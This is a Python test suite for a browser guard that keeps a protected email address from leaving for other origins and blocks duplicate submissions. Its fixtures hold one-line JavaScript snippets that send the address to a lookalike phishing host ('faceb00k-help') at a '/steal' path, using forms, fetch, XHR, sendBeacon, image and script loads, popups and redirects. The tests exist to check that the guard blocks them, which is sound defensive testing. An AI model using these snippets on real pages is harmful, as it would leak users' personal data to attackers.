"""In a real browser: nothing leaves for other origins, and nothing is submitted twice under one fence."""

from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.responses import PlainTextResponse, RedirectResponse

from objector.browser.errors import StrayedError
from objector.browser.guard import Passage
from objector.browser.launch import Session
from objector.page.tab import Tab
from tests.parts.served import ELSEWHERE, HOME, Served

EMAIL = "anna@example.org"
FORM = '<form method=post action="{action}"{more}><input name=email value="{email}"><button>send</button></form>'
SENDERS = {
    "fetch": "fetch('{to}', {{method: 'POST', mode: 'no-cors', body: 'email={email}'}}).catch(String)",
    "xhr": "new Promise(end => {{ let x = new XMLHttpRequest(); x.onloadend = end; x.open('POST', '{to}'); x.send('{email}') }})",
    "query": "fetch('{to}?email=' + encodeURIComponent('{email}'), {{mode: 'no-cors'}}).catch(String)",
    "beacon": "navigator.sendBeacon('{to}', 'email={email}')",
}


@given(st.sets(st.integers(0, 3)), st.sets(st.integers(0, 3)))
def test_a_passage_is_answered_when_each_request_has_its_reply(sent: set[int], replied: set[int]) -> None:
    passage = Passage({("POST", str(n)) for n in sent}, {("POST", str(n)) for n in replied})
    assert passage.is_answered == (sent <= replied)


@pytest.fixture
def protected(run: Callable, show: Callable[[str], Session]) -> Callable[[str], Session]:
    """Show a page from which an address must not leave for elsewhere."""

    def shown(html: str) -> Session:
        session = show(html)
        run(session.guard.protect([EMAIL]))
        return session

    return shown


def test_a_form_that_posts_to_another_origin_posts_nothing(run: Callable, protected: Callable, served: Served) -> None:
    session = protected(FORM.format(action=f"{ELSEWHERE}steal", email=EMAIL, more=""))
    run(session.page.click("button"))
    with pytest.raises(StrayedError, match="faceb00k-help"):
        run(Tab(session.page, session.guard, 10).until(lambda _look: False))
    assert served.hosts() == {"www.facebook.com"}


@pytest.mark.parametrize("way", SENDERS)
def test_an_answer_is_not_sent_elsewhere_by_a_script(way: str, run: Callable, protected: Callable, served: Served) -> None:
    session = protected("")
    run(session.page.evaluate(SENDERS[way].format(to=f"{ELSEWHERE}steal", email=EMAIL)))
    run(session.page.evaluate("fetch('/done')"))
    assert served.hosts() == {"www.facebook.com"}
    assert session.guard.strayed is not None
    assert session.guard.strayed.startswith(f"{ELSEWHERE}steal")


LOADERS = {
    "image": "new Promise(end => {{ let i = new Image(); i.onload = i.onerror = () => end('over'); i.src = '{to}'; }})",
    "script": """new Promise(end => {{ let s = document.createElement('script'); s.onload = s.onerror = () => end('over');
        s.src = '{to}'; document.head.append(s); }})""",
}


@pytest.mark.parametrize("way", LOADERS)
def test_an_answer_is_not_carried_away_by_what_a_page_loads(way: str, run: Callable, protected: Callable, served: Served) -> None:
    session = protected("")
    for query in (EMAIL.replace("@", "%40"), "size=2"):
        run(session.page.evaluate(LOADERS[way].format(to=f"{ELSEWHERE}picture?{query}")))
    assert [path for _, host, path, _ in served.requests if host != "www.facebook.com"] == ["/picture?size=2"]
    assert session.guard.strayed is None


def test_what_carries_no_answer_may_be_fetched_from_elsewhere(run: Callable, protected: Callable, served: Served) -> None:
    session = protected("")
    run(session.page.evaluate(f"fetch('{ELSEWHERE}style', {{mode: 'no-cors'}}).then(String)"))
    assert "www.faceb00k-help.com" in served.hosts()
    assert session.guard.strayed is None


def test_plain_http_is_not_gone_to(run: Callable, session: Session, served: Served) -> None:
    with pytest.raises(StrayedError, match=r"http://www\.facebook\.com"):
        run(Tab(session.page, session.guard, 10).go("http://www.facebook.com/"))
    assert served.requests == []


def test_a_submit_that_is_redirected_to_another_origin_ends_there(run: Callable, protected: Callable, served: Served) -> None:
    served.replies["/submit"] = lambda: RedirectResponse(f"{ELSEWHERE}steal", 307)
    session = protected(FORM.format(action="/submit", email=EMAIL, more=""))
    run(session.page.click("button"))
    with pytest.raises(StrayedError):
        run(Tab(session.page, session.guard, 10).until(lambda _look: False))
    assert served.posted() == [("www.facebook.com", "/submit")]


@pytest.mark.parametrize(
    "html",
    [
        FORM.format(action=f"{ELSEWHERE}steal", email=EMAIL, more=" target=_blank"),
        f"<button onclick=\"window.open('{ELSEWHERE}steal?email={EMAIL}')\">open</button>",
        f'<a id=a target=_blank href="{ELSEWHERE}steal?email={EMAIL}"></a><button onclick="a.click()">open</button>',
    ],
    ids=["form", "open", "link"],
)
def test_a_popup_takes_nothing_elsewhere(html: str, run: Callable, protected: Callable, served: Served) -> None:
    session = protected(html)

    run(session.page.click("button"))
    run(session.page.evaluate("fetch('/done')"))
    assert served.hosts() == {"www.facebook.com"}


def test_under_one_fence_a_request_goes_out_once(run: Callable, protected: Callable, served: Served) -> None:
    session = protected("")
    send = f"fetch('/submit', {{method: 'POST', body: 'email={EMAIL}'}}).then(r => r.status, () => 'stopped')"
    with session.guard.fence() as passage:
        assert run(session.page.evaluate(send)) == 200
        assert run(session.page.evaluate(send)) == "stopped"
        assert passage.is_answered
    assert session.guard.stopped == [f"{HOME}submit"]
    assert served.posted() == [("www.facebook.com", "/submit")]

    assert run(session.page.evaluate(send)) == 200
    assert len(served.posted()) == 2


def test_a_failure_of_the_server_is_no_answer(run: Callable, protected: Callable, served: Served) -> None:
    served.replies["/submit"] = lambda: PlainTextResponse("oops", 502)
    session = protected("")
    with session.guard.fence() as passage:
        run(session.page.evaluate(f"fetch('/submit', {{method: 'POST', body: 'email={EMAIL}'}}).then(r => r.status)"))
    assert passage.sent
    assert not passage.is_answered


def test_what_carries_no_answer_passes_the_fence_freely(run: Callable, protected: Callable, served: Served) -> None:
    session = protected("")
    with session.guard.fence() as passage:
        run(session.page.evaluate("Promise.all([1, 2].map(() => fetch('/log', {method: 'POST', body: 'a=b'})))"))
    assert passage.sent == set()
    assert len(served.posted()) == 2


def test_permissions_and_service_workers_are_denied(run: Callable, show: Callable) -> None:
    session = show("")
    state = "navigator.permissions.query({name: 'geolocation'}).then(found => found.state)"
    assert run(session.page.evaluate(state)) != "granted"
    register = "navigator.serviceWorker.register('/worker.js').then(found => String(found), () => 'denied')"
    assert run(session.page.evaluate(register)) in {"undefined", "denied"}
